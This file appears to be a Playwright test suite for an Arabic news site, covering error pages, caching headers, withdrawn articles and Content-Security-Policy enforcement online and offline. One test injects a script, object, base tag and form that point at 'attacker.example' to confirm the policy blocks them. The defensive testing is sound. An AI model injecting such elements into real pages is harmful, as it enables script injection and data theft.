import type { Page } from "@playwright/test";
import { expect, test } from "./support/fixtures";
import { AppServer, PUBLISH_TOKEN } from "./support/server";
import { waitForLibrary, waitForWorker } from "./support/worker";

const SEED_URL = "/articles/khitam-ahd-al-nizam-al-bayed";
const PAGES = ["/", SEED_URL, "/search", "/saved", "/settings", "/offline"];
const SITE_NAME = "الأخبار";

const decodeEntities = (s: string) =>
  s.replace(/&#x27;|&#39;/g, "'").replace(/&quot;/g, '"').replace(/&lt;/g, "<").replace(/&gt;/g, ">").replace(/&amp;/g, "&");

interface Violation {
  directive: string;
  blocked: string;
}

/** Collects every CSP violation and console error the page reports, from before its first script. */
async function watchPolicy(page: Page): Promise<{ violations: () => Promise<Violation[]>; consoleErrors: string[] }> {
  const consoleErrors: string[] = [];
  page.on("console", (message) => {
    if (message.type() === "error") consoleErrors.push(message.text());
  });
  page.on("pageerror", (error) => consoleErrors.push(error.message));
  await page.addInitScript(() => {
    const seen: { directive: string; blocked: string }[] = [];
    (window as unknown as { __violations: typeof seen }).__violations = seen;
    document.addEventListener("securitypolicyviolation", (e) => seen.push({ directive: e.effectiveDirective, blocked: e.blockedURI }));
  });
  return {
    consoleErrors,
    violations: () => page.evaluate(() => (window as unknown as { __violations: Violation[] }).__violations),
  };
}

test("a path that is no slug answers 404 in Arabic, and a malformed API id 400, never a stack trace", async ({ server }) => {
  for (const path of ["/articles/%25", "/articles/%E0%A4%A", "/articles/a%2Fb", "/articles/Capital-Letters", "/articles/%D8%AE%D8%A8%D8%B1"]) {
    const res = await fetch(`${server.url}${path}`);
    expect(res.status, path).toBe(404);
    const html = await res.text();
    expect(html, path).toContain("الصفحة غير موجودة");
    expect(html, path).not.toContain("URIError");
  }
  for (const method of ["GET", "PUT", "DELETE"]) {
    const res = await fetch(`${server.url}/api/articles/%E0%A4%A`, {
      method,
      headers: { Authorization: `Bearer ${PUBLISH_TOKEN}`, "Content-Type": "application/json" },
      ...(method === "PUT" ? { body: JSON.stringify({ title: "مقال تجريبي", body: "نص" }) } : {}),
    });
    expect(res.status, method).toBe(400);
    const body = (await res.json()) as { error: string };
    expect(body.error, method).toMatch(/[\u0600-\u06FF]/);
  }
  expect(server.output()).not.toMatch(/URIError|URI malformed/);
});

test("pages tell browsers to revalidate every time and shared caches to keep them briefly; a revalidation costs a 304", async ({ server }) => {
  for (const path of PAGES) {
    const res = await fetch(`${server.url}${path}`);
    expect(res.status, path).toBe(200);
    expect(res.headers.get("cache-control"), path).toBe("public, max-age=0, must-revalidate, s-maxage=15");
    expect(res.headers.get("cdn-cache-control"), path).toBe("max-age=15, stale-while-revalidate=15");
    const etag = res.headers.get("etag");
    expect(etag, path).toBeTruthy();
    // As a browser revalidates (fetch would add "no-cache" to a conditional request, which forbids a 304).
    const again = await fetch(`${server.url}${path}`, { headers: { "If-None-Match": etag!, "Cache-Control": "max-age=0" } });
    expect(again.status, path).toBe(304);
    expect(again.headers.get("cache-control"), path).toBe("public, max-age=0, must-revalidate, s-maxage=15");
  }
  // Every page, whatever its route or status: an unknown article, an archive page past the end.
  for (const path of ["/articles/no-such-article", "/archive?page=9999"]) {
    const res = await fetch(`${server.url}${path}`);
    expect(res.status, path).toBe(404);
    expect(res.headers.get("cache-control"), path).toBe("public, max-age=0, must-revalidate, s-maxage=15");
  }
  // A path no route matches is answered by Next itself, which forbids storing it at all: never stale either.
  const unmatched = await fetch(`${server.url}/no/such/page`);
  expect(unmatched.status).toBe(404);
  expect(unmatched.headers.get("cache-control")).toBe("private, no-cache, no-store, max-age=0, must-revalidate");
  // Assets keep their own: Next's hashed files are immutable, the worker is always re-checked.
  // (Next's own 404 carries its runtime; the pages readers get carry no Next.js script.)
  const html = await (await fetch(`${server.url}/no/such/page`)).text();
  const chunk = html.match(/\/_next\/static\/[^"]+\.js/)?.[0];
  expect((await fetch(`${server.url}${chunk}`)).headers.get("cache-control")).toBe("public, max-age=31536000, immutable");
  expect((await fetch(`${server.url}/sw.js`)).headers.get("cache-control")).toBe("no-cache");
  // Every response carries the policies, the API's too.
  for (const path of [...PAGES, "/api/push/key", "/manifest.webmanifest"]) {
    const res = await fetch(`${server.url}${path}`);
    const csp = res.headers.get("content-security-policy") ?? "";
    expect(csp, path).toContain("object-src 'none'");
    expect(csp, path).toContain("base-uri 'none'");
    expect(csp, path).toContain("form-action 'self'");
    expect(csp, path).toContain("frame-ancestors 'none'");
    expect(csp, path).toMatch(/script-src 'self'[^;]*;/);
    expect(res.headers.get("permissions-policy"), path).toContain("camera=()");
  }
  // Pages sent without Next's runtime have no inline script but our hashed boot scripts, and none of Next's files.
  for (const path of ["/", SEED_URL, "/search", "/saved", "/settings"]) {
    const res = await fetch(`${server.url}${path}`);
    expect(await res.text(), path).not.toMatch(/<script\b[^>]*src="\/_next\//);
    const csp = res.headers.get("content-security-policy") ?? "";
    expect(csp, path).toMatch(/script-src 'self'( 'sha256-[A-Za-z0-9+/]+=*'){2};/);
    expect(csp, path).not.toContain("unsafe-inline");
  }
});

test("the archive's first page redirects readers to the home page, not to an error", async ({ server }) => {
  for (const path of ["/archive", "/archive?page=1"]) {
    const res = await fetch(`${server.url}${path}`, { redirect: "manual" });
    expect(res.status, path).toBe(307);
    expect(new URL(res.headers.get("location") ?? "", `${server.url}${path}`).href, path).toBe(`${server.url}/`);
  }
});

test("a publish shows on the very next navigation to the home page in the same browser", async ({ server, page }) => {
  await page.goto("/");
  await waitForWorker(page);
  // Twice, so the home page is in the browser's HTTP cache and the worker controls the navigation.
  await page.goto("/");
  const title = `مقال تجريبي للتنقل التالي ${Date.now()}`;
  await server.publish({ title, body: "نص تجريبي للتنقل التالي." });
  const res = await page.goto("/");
  expect(res?.status()).toBe(200);
  // The document itself, not a notice the page adds later.
  expect((await res?.text())?.includes(title), "the new article is in the served document").toBe(true);
  await expect(page.locator("main").getByRole("link", { name: title })).toBeVisible();
});

test("a withdrawn article answers 410 Gone with an Arabic page, and its slug stays taken", async ({ server, page }) => {
  const { id, url, slug } = await server.publish({ title: "مقال تجريبي للسحب والإجابة 410", body: "نص تجريبي للسحب." });
  expect((await fetch(`${server.url}${url}`)).status).toBe(200);
  await server.withdraw(id);

  const res = await fetch(`${server.url}${url}`);
  expect(res.status).toBe(410);
  expect(res.headers.get("content-type")).toBe("text/html; charset=utf-8");
  expect(res.headers.get("cache-control")).toBe("public, max-age=0, must-revalidate, s-maxage=15");
  const html = await res.text();
  expect(html).toContain("سُحب هذا المقال");
  expect(html).not.toContain("مقال تجريبي للسحب والإجابة 410");
  const head = await fetch(`${server.url}${url}`, { method: "HEAD" });
  expect(head.status).toBe(410);

  const policy = await watchPolicy(page);
  const shown = await page.goto(url);
  expect(shown?.status()).toBe(410);
  await expect(page.getByRole("heading", { level: 1 })).toHaveText("سُحب هذا المقال");
  await expect(page.getByRole("link", { name: "العودة إلى آخر الأخبار" })).toHaveAttribute("href", "/");
  // Its one style applies under its own policy.
  expect(await page.evaluate(() => getComputedStyle(document.querySelector("main")!).textAlign)).toBe("center");
  expect(await policy.violations()).toEqual([]);

  const again = await fetch(`${server.url}/api/articles`, {
    method: "POST",
    headers: { "Content-Type": "application/json", Authorization: `Bearer ${PUBLISH_TOKEN}` },
    body: JSON.stringify({ title: "مقال تجريبي آخر", body: "نص", slug }),
  });
  expect(again.status).toBe(409);
});

test("a title is shown exactly as written, with $' $& and $` in it, online and offline", async ({ page }) => {
  const server = await new AppServer().start();
  try {
    const title = "سعر الدولار $' و$& و$` اليوم";
    const { url } = await server.publish({ title, body: "نص تجريبي عن العنوان." });
    const html = await (await fetch(`${server.url}${url}`)).text();
    expect(decodeEntities(html.match(/<title>([\s\S]*?)<\/title>/)?.[1] ?? "")).toBe(`${title} | ${SITE_NAME}`);
    expect(decodeEntities(html.match(/<meta property="og:title" content="([^"]*)"/)?.[1] ?? "")).toBe(title);

    await page.goto(`${server.url}${url}`);
    await expect(page).toHaveTitle(`${title} | ${SITE_NAME}`);
    await waitForLibrary(page, 2);
    await server.stop();
    const offline = await page.goto(`${server.url}${url}`);
    expect(offline?.headers()["x-served-by"]).toBe("service-worker");
    await expect(page.getByRole("heading", { level: 1 })).toHaveText(title);
    await expect(page).toHaveTitle(`${title} | ${SITE_NAME}`);
  } finally {
    await server.stop();
  }
});

test("no page breaks its policy, online or offline, and the policy stops injected scripts, plugins, <base> and forms", async ({ page }) => {
  const server = await new AppServer().start();
  try {
    const policy = await watchPolicy(page);
    await page.goto(`${server.url}/`);
    await waitForWorker(page);
    // The theme boot script must run offline too: the worker's policy allows it by hash.
    await page.evaluate(() => localStorage.setItem("akhbar:theme", "dark"));
    for (const path of ["/", SEED_URL, "/search?q=دمشق", "/saved", "/settings"]) {
      const res = await page.goto(`${server.url}${path}`);
      expect(res?.status(), path).toBe(200);
      expect(res?.headers()["content-security-policy"], path).toContain("object-src 'none'");
      await expect(page.locator("html"), path).toHaveAttribute("data-theme", "dark");
      expect(await policy.violations(), path).toEqual([]);
    }
    expect(await page.evaluate(async () => (await navigator.serviceWorker.getRegistration())?.active?.state)).toBe("activated");
    expect(policy.consoleErrors).toEqual([]);

    // What an injection would try, on a real page: each is refused and reported.
    await page.goto(`${server.url}${SEED_URL}`);
    await page.evaluate(() => {
      const script = document.createElement("script");
      script.src = "https://attacker.example/steal.js";
      document.body.append(script);
      const object = document.createElement("object");
      object.data = "https://attacker.example/plugin.swf";
      document.body.append(object);
      const base = document.createElement("base");
      base.href = "https://attacker.example/";
      document.head.prepend(base);
      const form = document.createElement("form");
      form.action = "https://attacker.example/collect";
      form.method = "post";
      document.body.append(form);
      form.submit();
    });
    await expect
      .poll(async () => [...new Set((await policy.violations()).map((v) => v.directive))].sort())
      .toEqual(["base-uri", "form-action", "object-src", "script-src-elem"]);
    expect(page.url()).toBe(`${server.url}${SEED_URL}`);

    // Offline, the worker's own pages keep a policy, stricter: no inline script but the hashed boot script.
    await server.stop();
    for (const path of ["/", SEED_URL, "/articles/never-held", "/saved"]) {
      const res = await page.goto(`${server.url}${path}`);
      expect(res?.headers()["content-security-policy"], path).toContain("object-src 'none'");
      await expect(page.locator("html"), path).toHaveAttribute("data-theme", "dark");
      expect(await policy.violations(), path).toEqual([]);
    }
    const offlinePolicy = (await page.goto(`${server.url}/`))?.headers()["content-security-policy"] ?? "";
    expect(offlinePolicy).toMatch(/script-src 'self'( 'sha256-[A-Za-z0-9+/]+=*')+;/);
    expect(offlinePolicy).not.toContain("unsafe-inline");
  } finally {
    await server.stop();
  }
});
